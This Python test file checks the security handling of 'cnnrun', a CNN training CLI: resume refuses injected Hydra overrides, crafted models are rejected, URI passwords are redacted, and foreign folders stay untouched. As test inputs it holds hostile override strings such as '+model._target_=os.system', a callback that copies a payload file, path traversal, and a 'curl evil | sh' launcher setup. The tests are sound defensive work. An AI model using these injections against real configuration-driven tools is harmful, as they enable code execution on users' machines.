"""A run directory is data, never code; secrets are never written; cnnrun touches only what is its own.

Hostile inputs as a received run directory, a crafted model, a tracking URI with a password, a project
folder or `/` given as the output directory, edited records, signals. Real processes where users meet it.
"""

import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import yaml
from PIL import Image

from conftest import TINY, make_config, read_metrics, refusal, run_cli, started_keras

from cnnrun import CnnrunError, record
from cnnrun.config import checks
from cnnrun import signals
from cnnrun.commands.resume import replayable


def one_error_line(proc) -> str:
    """The single `cnnrun: error:` line of a refused command (and no traceback)."""
    assert "Traceback" not in proc.stderr, proc.stderr[-3000:]
    lines = [line for line in proc.stderr.splitlines() if line.startswith("cnnrun: error:")]
    assert len(lines) == 1, proc.stderr[-3000:]
    return lines[0]


def copy_run(run_dir: Path, where: Path) -> Path:
    target = where / "run"
    shutil.copytree(run_dir, target)
    (target / ".lock").unlink(missing_ok=True)
    return target


# --- a run directory is data ------------------------------------------------------------------------------

def test_resume_never_runs_what_the_directory_names(finished, tmp_path):
    run_dir = copy_run(finished, tmp_path)
    payload, pwned = tmp_path / "payload", tmp_path / "pwned"
    payload.write_text("import os\n")
    overrides = yaml.safe_load((run_dir / ".hydra" / "overrides.yaml").read_text())
    overrides += ["+hydra.callbacks.pwn._target_=shutil.copyfile", f"+hydra.callbacks.pwn.src={payload}",
                  f"+hydra.callbacks.pwn.dst={pwned}", f"hydra.searchpath=[file://{tmp_path}]",
                  "+model._target_=os.system", "trainer.seed=${oc.env:HOME}"]
    (run_dir / ".hydra" / "overrides.yaml").write_text(yaml.safe_dump(overrides))
    r = run_cli("resume", str(run_dir))
    assert not pwned.exists()  # the three lines that once wrote a .pth file into site-packages
    assert r.returncode == 0, r.stderr[-3000:]  # the run itself is finished: nothing to do
    said = r.stdout + r.stderr
    assert "not replayed" in said and "hydra.callbacks.pwn._target_" in said and "oc.env" in said


def test_what_resume_replays():
    assert replayable("model=cnn3") and replayable("trainer.seed=3") and replayable("augment=[flip,shift]")
    assert replayable("model=dense,cnn3") and replayable("optimizer.lr=interval(0.001,0.1)")
    for bad in ("+hydra.callbacks.x._target_=os.system", "hydra.searchpath=[file:///tmp]", "hydra.run.dir=/",
                "+model._target_=os.system", "model._args_=[1]", "trainer.seed=${oc.env:HOME}",
                "experiment=../../evil", "+foo.bar=1", "hydra/launcher=../x", "~hydra.callbacks.summary"):
        assert not replayable(bad), bad
    assert replayable("hydra/launcher=joblib", launcher=True) and replayable("hydra.launcher.n_jobs=2", launcher=True)
    assert not replayable("hydra.launcher.setup=[curl evil | sh]", launcher=True)
    assert not replayable("+hydra.launcher.ray.init._target_=os.system", launcher=True)


def test_a_crafted_model_is_refused_in_one_line(finished, tmp_path):
    import keras

    run_dir = copy_run(finished, tmp_path)
    inputs = keras.Input((8, 8, 1))
    crafted = keras.Model(inputs, keras.layers.Lambda(lambda x: x * 2)(inputs))
    crafted.save(run_dir / "model.keras")
    image = tmp_path / "x.png"
    Image.fromarray(np.zeros((8, 8), np.uint8)).save(image)
    for args in (["predict", str(run_dir), str(image), "--out", str(tmp_path / "p.csv")],
                 ["explain", str(run_dir), "--max", "0", "--embedding", "none"],
                 ["export", str(run_dir), "--format", "savedmodel"]):
        r = run_cli(*args)
        line = one_error_line(r)
        assert r.returncode == 2 and "cannot be loaded" in line and "would run code" in line, line
        assert "safe_mode=False" not in r.stderr


def test_class_names_that_do_not_match_the_model_are_refused(finished, tmp_path):
    run_dir = copy_run(finished, tmp_path)
    m = read_metrics(run_dir)
    m["class_names"] = ["a", "b", "c"]
    (run_dir / "metrics.json").write_text(json.dumps(m))
    image = tmp_path / "x.png"
    Image.fromarray(np.zeros((28, 28), np.uint8)).save(image)
    r = run_cli("predict", str(run_dir), str(image), "--out", str(tmp_path / "p.csv"))
    assert r.returncode == 2 and "do not match the model's 10 distinct outputs" in one_error_line(r)
    assert "distinct" in refusal("dataset.class_names=[a,a,b,c,d,e,f,g,h,i]")


# --- secrets ------------------------------------------------------------------------------------------------

def test_redaction():
    from cnnrun.config.redact import redact, split_credentials, take_credentials

    assert redact("see http://alice:pw@host:5000/x and https://tok@h/y") == "see http://***@host:5000/x and https://***@h/y"
    assert redact("s3://b/k?X-Amz-Signature=abc&sig=zzz") == "s3://b/k?X-Amz-Signature=abc&sig=***"
    assert split_credentials("http://a:b%40c@h:1/p") == ("http://h:1/p", "a", "b@c")
    os.environ.pop("MLFLOW_TRACKING_PASSWORD", None)
    try:
        assert take_credentials(["logger.mlflow.tracking_uri=http://u:p4ss@h"]) == ["logger.mlflow.tracking_uri=http://h"]
        assert os.environ["MLFLOW_TRACKING_PASSWORD"] == "p4ss" and redact("x p4ss y") == "x *** y"
    finally:
        os.environ.pop("MLFLOW_TRACKING_PASSWORD", None)
        os.environ.pop("MLFLOW_TRACKING_USERNAME", None)


# --- only its own ---------------------------------------------------------------------------------------------

def _tree_state(folder: Path) -> dict:
    """The names in `folder`, with the size and modification time of what cnnrun would write there."""
    mine = {".lock", ".hydra", "metrics.json", "train.log"}
    state = {p.name: None for p in folder.iterdir()}
    for name in mine & set(state):
        p = folder / name
        state[name] = sorted((q.name, q.stat().st_size, q.stat().st_mtime_ns) for q in p.iterdir()) \
            if p.is_dir() else (p.stat().st_size, p.stat().st_mtime_ns)
    return state


def test_a_folder_that_holds_no_run_is_refused_not_moved(tmp_path):
    project = tmp_path / "myproj"
    (project / ".git").mkdir(parents=True)
    (project / "src").mkdir()
    (project / "src" / "a.py").write_text("x = 1\n")
    r = run_cli("train", *TINY, "hydra.run.dir=.", cwd=project)
    assert r.returncode == 2 and "holds files that are not a cnnrun run's (.git, src)" in one_error_line(r)
    assert sorted(p.name for p in project.iterdir()) == [".git", "src"]  # nothing moved, no .lock, no .hydra
    assert sorted(p.name for p in tmp_path.iterdir()) == ["myproj"]
    before = _tree_state(Path("/"))  # / of a shared machine may hold anything: nothing of it may change
    r = run_cli("train", *TINY, "hydra.run.dir=/")
    assert r.returncode == 2 and "not a cnnrun run's" in one_error_line(r)
    assert _tree_state(Path("/")) == before
    with pytest.raises(record.RunRefused):
        record.refuse_foreign(Path.home()) if record.foreign_entries(Path.home()) else record.refuse_foreign(Path("/"))


def test_a_sweep_of_other_overrides_is_refused_and_changes_nothing(tmp_path):
    sweep = tmp_path / "sweep"
    r = run_cli("train", "-m", *TINY, "model=dense", "trainer.seed=0,1", f"hydra.sweep.dir={sweep}")
    assert r.returncode == 0, r.stderr[-3000:]
    before = {p: p.read_bytes() for p in sweep.rglob("*") if p.is_file() and p.name != ".lock"}
    r = run_cli("train", "-m", *TINY, "model=dense", "trainer.seed=0,1", "optimizer.lr=0.1", f"hydra.sweep.dir={sweep}")
    assert r.returncode == 2 and "holds another sweep" in one_error_line(r) and "optimizer.lr: 0.001 -> 0.1" in r.stderr
    after = {p: p.read_bytes() for p in sweep.rglob("*") if p.is_file() and p.name != ".lock"}
    assert after == before  # not one job's .hydra/config.yaml rewritten
    r = run_cli("resume", str(sweep), "optimizer.lr=0.1")  # nor by resume with another value
    assert r.returncode == 2 and "holds another sweep" in one_error_line(r)


def test_refused_jobs_make_the_sweep_not_ok(tmp_path):
    from cnnrun.commands.sweep import note_refused, summarize, take_refused

    for job in ("0", "1"):
        (tmp_path / job).mkdir()
        (tmp_path / job / "metrics.json").write_text(json.dumps({"status": "ok", "test_accuracy": 0.9}))
    note_refused(tmp_path, "1", "its directory holds a finished run of another config")
    runs, _ = summarize([tmp_path], tmp_path, "summary", "t", take_refused(tmp_path))
    assert sorted(r["metrics"]["status"] for r in runs) == ["ok", "refused"] and not (tmp_path / ".refused").exists()


def make_folder(root: Path, n: int = 12, classes=("cat", "dog")) -> Path:
    rng = np.random.default_rng(0)
    for k, name in enumerate(classes):
        (root / name).mkdir(parents=True, exist_ok=True)
        for i in range(n):
            img = (rng.integers(0, 60, (16, 16, 3)) + 150 * k).clip(0, 255).astype(np.uint8)
            Image.fromarray(img).save(root / name / f"{i}.png")
    return root


def test_a_runs_identity_includes_its_data(tmp_path):
    from cnnrun import data

    photos = make_folder(tmp_path / "photos")
    cfg = make_config("dataset=folder", f"dataset.path={photos}", tiny=False).dataset
    first = data.digest(cfg)
    moved = tmp_path / "moved"
    shutil.copytree(photos, moved)  # copy2: sizes and times kept, the path differs
    data.forget_digests()
    assert data.digest(make_config("dataset=folder", f"dataset.path={moved}", tiny=False).dataset) == first
    Image.fromarray(np.zeros((16, 16, 3), np.uint8)).save(photos / "cat" / "new.png")
    data.forget_digests()
    assert data.digest(cfg) != first

    args = ["dataset=folder", f"dataset.path={moved}", "dataset.image_size=16", "model=dense", "trainer.epochs=1",
            "trainer.verbose=0", f"hydra.run.dir={tmp_path / 'run'}"]
    r = run_cli("train", *args)
    assert r.returncode == 0, r.stderr[-3000:]
    assert read_metrics(tmp_path / "run")["data_digest"] == first
    r = run_cli("compare", str(tmp_path / "run"), cwd=tmp_path)  # by default under outputs/compare/DATE/TIME
    written = list((tmp_path / "outputs" / "compare").glob("*/*/comparison.csv"))
    assert r.returncode == 0 and len(written) == 1 and first[:8] in written[0].read_text()
    Image.fromarray(np.zeros((16, 16, 3), np.uint8)).save(moved / "dog" / "new.png")
    r = run_cli("train", *args)
    line = one_error_line(r)
    assert r.returncode == 2 and "its data:" in line and "nothing to do" not in r.stdout + r.stderr

    r = run_cli("train", "dataset=folder", "dataset.path=.", "dataset.image_size=16", "model=dense",
                "trainer.epochs=1", "hydra.run.dir=outputs/x", cwd=moved)
    assert r.returncode == 2 and "inside dataset.path" in one_error_line(r)
    assert not (moved / "outputs").exists()


def test_a_class_folder_named_in_no_encoding_is_refused_before_training(tmp_path):
    photos = make_folder(tmp_path / "photos")
    os.rename(photos / "dog", os.fsencode(photos) + b"/caf\xe9")
    r = run_cli("train", "dataset=folder", f"dataset.path={photos}", "dataset.image_size=16", "model=dense",
                "trainer.epochs=1", f"hydra.run.dir={tmp_path / 'run'}")
    line = one_error_line(r)
    assert r.returncode == 2 and "caf\\xe9" in line and "not UTF-8" in line
    assert not (tmp_path / "run" / "model.keras").exists()


# --- signals ---------------------------------------------------------------------------------------------------

def test_a_swallowed_signal_is_not_lost():
    """JAX's gc callback swallows a KeyboardInterrupt raised inside it: the record of it stops the run."""
    from cnnrun.training.resume import StopOnSignal

    previous = {s: signal.getsignal(s) for s in signals.HONOURED}
    try:
        signals.clear()
        signals.install()
        try:
            os.kill(os.getpid(), signal.SIGTERM)
            for _ in range(1000):
                time.sleep(0.001)  # the handler runs between bytecodes
        except KeyboardInterrupt:
            pass  # swallowed, as in a callback whose exceptions are ignored
        assert signals.received() == signal.SIGTERM and signals.exit_code() == 143
        with pytest.raises(KeyboardInterrupt):
            signals.check()

        class Model:
            stop_training = False

        with StopOnSignal(Model()) as stop:
            assert stop.signum == signal.SIGTERM and stop.model.stop_training  # training stops before a step
    finally:
        signals.clear()
        for s, h in previous.items():
            signal.signal(s, h)


def test_sigterm_reaches_the_training_child_of_reproduce(tmp_path):
    from conftest import make_mnist_like

    # 8 000 images: the four epochs left after the first one's row take seconds, so the signal lands in training
    # even on a loaded machine (with 2 000 the run could end before it arrived: status ok, the test lost its race)
    make_mnist_like(tmp_path / "data" / "mnist", n_train=8000, n_test=100)
    out = tmp_path / "reproduce"
    env = {**os.environ, "CNNRUN_DATA": str(tmp_path / "data")}
    proc = subprocess.Popen([sys.executable, "-m", "cnnrun.commands.reproduce", "--only", "article003_dense_mnist", "--seeds", "1",
                             "--out", str(out), "--report", str(tmp_path / "RESULTS.md")], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 240
    metrics = None
    while time.monotonic() < deadline:  # wait until the child is training (its record says running, with epochs)
        found = list(out.rglob("history.csv"))
        if found:
            metrics = found[0].parent
            break
        assert proc.poll() is None, proc.stdout.read()[-3000:]
        time.sleep(0.2)  # polling a process that is starting, not racing a result
    assert metrics is not None, "the training child did not start in 240 s"
    proc.send_signal(signal.SIGTERM)
    text, _ = proc.communicate(timeout=120)
    assert proc.returncode == 143, text[-3000:]
    assert not record.live(metrics)  # the child is gone: its lock is free
    assert read_metrics(metrics)["status"] == "interrupted"


# --- exports ------------------------------------------------------------------------------------------------------

def test_an_interrupted_export_never_looks_verified(finished, tmp_path, monkeypatch):
    from cnnrun.commands import export

    run_dir = copy_run(finished, tmp_path)
    out = tmp_path / "export"
    export.export(run_dir, ["savedmodel"], out)
    assert json.loads((out / "export.json").read_text())["formats"]["savedmodel"]["verified"] is True

    def interrupted(*args):
        raise KeyboardInterrupt

    monkeypatch.setattr(export, "run_export", interrupted)
    with pytest.raises(KeyboardInterrupt):
        export.export(run_dir, ["savedmodel"], out)
    report = json.loads((out / "export.json").read_text())
    assert "savedmodel" not in report["formats"]  # the old one is still on disk, but no longer vouched for
    assert not [p for p in out.iterdir() if p.name.startswith(".partial-") or "temp" in p.name]


# --- tracebacks and nonsense ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("backend", ["torch", "tensorflw"])
def test_an_unknown_backend_is_one_line_and_leaves_nothing(tmp_path, backend):
    r = run_cli("train", *TINY, f"hydra.run.dir={tmp_path / 'run'}", env={"KERAS_BACKEND": backend})
    assert r.returncode == 2 and f"KERAS_BACKEND={backend}" in one_error_line(r)
    assert not (tmp_path / "run").exists()


def test_command_line_nonsense_is_one_line(finished, tmp_path):
    """Refused at once: before Keras and its backend start (seconds), which the refusals below never do."""
    image = tmp_path / "x.png"
    Image.fromarray(np.zeros((28, 28), np.uint8)).save(image)
    imports = {"PYTHONPROFILEIMPORTTIME": "1"}
    r = run_cli("predict", str(finished), str(image), "--top", "-5", env=imports)
    assert r.returncode == 2 and "--top -5 must be 1 or more" in r.stderr and "Traceback" not in r.stderr
    assert not started_keras(r)
    r = run_cli("predict", str(tmp_path / "nowhere"), str(image), env=imports)
    assert r.returncode == 2 and "holds no run" in one_error_line(r) and not started_keras(r)
    a_file = tmp_path / "afile"
    a_file.write_text("x")
    for args in (["export", str(finished), "--format", "savedmodel", "--out", str(a_file)],
                 ["explain", str(finished), "--max", "0", "--embedding", "none", "--out", str(a_file)],
                 ["predict", str(finished), str(image), "--out", str(a_file / "p.csv")]):
        r = run_cli(*args, env=imports)
        assert r.returncode == 2 and "cannot write" in one_error_line(r) and "--out" in one_error_line(r), args
        assert not started_keras(r), args
    r = run_cli("predict", str(finished), str(image), "--out", str(tmp_path / "p.csv"), env=imports)
    assert r.returncode == 0 and started_keras(r)  # the check sees Keras start where it does
    r = run_cli("train", *TINY, "hydra.job.chdir=true")
    assert r.returncode == 2 and "hydra.job.chdir=true is not supported" in one_error_line(r)


def test_compare_survives_edited_records(tmp_path):
    for name, m in {"a": {"status": "ok", "test_accuracy": "ninety"},
                    "b": {"status": "failed", "error": "x" * 2_000_000},
                    "c": {"status": "ok", "test_accuracy": 0.9}}.items():
        (tmp_path / name).mkdir()
        (tmp_path / name / "metrics.json").write_text(json.dumps(m))
    r = run_cli("compare", str(tmp_path), "--out", str(tmp_path))
    assert r.returncode == 0 and "Traceback" not in r.stderr
    assert len(r.stdout.splitlines()) < 40 and "is not a number" in (tmp_path / "comparison.csv").read_text()


def test_records_are_strict_json_and_settings_finite(tmp_path):
    from cnnrun.record.artifacts import write_json

    write_json(tmp_path / "m.json", {"loss": float("nan"), "x": [float("inf"), 1.0]})
    strict = json.loads((tmp_path / "m.json").read_text(), parse_constant=lambda c: pytest.fail(f"bare {c}"))
    assert strict == {"loss": None, "x": [None, 1.0]}
    assert "augment.mixup.alpha=inf must be a finite number" in refusal("augment=mixup", "augment.mixup.alpha=inf")
    assert "finite" in refusal("optimizer.lr=nan")


def test_a_failure_after_work_began_is_exit_1_not_2(tmp_path):
    cfg = checks.validate(make_config())
    with pytest.raises(record.RunFailed):
        with record.Run(tmp_path / "run", cfg) as run:
            run.start(model="x")
            run.begin_work()
            raise CnnrunError("the disk is full")
    assert read_metrics(tmp_path / "run")["status"] == "failed"


def test_searches_tune_on_validation_and_take_optunas_search_spaces():
    # the command line's interval and the preset's own space (lr, batch size, dropout, shift, erasing): each end
    assert checks.check_jobs([*TINY, "hparams_search=optuna_fashion", "optimizer.lr=interval(0.0001,0.01)"]) == 15
    assert "model.dropout is not a setting" in refusal("model=dense", "hparams_search=optuna_fashion")
    assert "holds no validation set out" in refusal("hparams_search=optuna_fashion", "trainer.val_split=0")
    assert "optimizer.lr=-1.0 must be a positive number" in refusal("hparams_search=optuna_fashion",
                                                                    "optimizer.lr=interval(-1,0.01)")


@pytest.mark.slow  # three timing runs; bench/hostile.py checks the same ratio
def test_profile_counts_every_step_of_a_compiled_call(tmp_path):
    from cnnrun.training.train import train

    per_step = {}
    for spe in (4, 1, 4):  # alternated: the same machine state for both
        m = train(make_config("model=dense", "debug=profile", "hooks.profile.warmup=2", "hooks.profile.steps=4",
                              "hooks.profile.trace=0", "trainer.epochs=2", "trainer.batch_size=16",
                              f"trainer.steps_per_execution={spe}"), tmp_path / f"run{spe}-{len(per_step)}")
        p = m["profile"]
        assert p["steps_per_execution"] == spe and p["timed_steps"] == 4 * spe
        per_step.setdefault(spe, []).append(p["median_ms"]["step"])
    # before: a call of 4 steps was counted as one step, 4x the time (16x off in images per second)
    assert min(per_step[4]) < 2.5 * per_step[1][0]


def test_a_model_too_big_for_memory_is_refused_before_training(monkeypatch):
    from cnnrun.data import memory

    monkeypatch.setattr(memory, "available_memory", lambda: 8 * 2**30)
    memory.check_model_fits(10_000_000, "adam", "cnn4")  # 160 MB of training state: fine
    with pytest.raises(CnnrunError, match=r"model=dense has 864,000,000 parameters: .* needs at least 12.9 GB"):
        memory.check_model_fits(864_000_000, "adam", "dense")  # dataset.image_size=1500 on RGB, model=dense
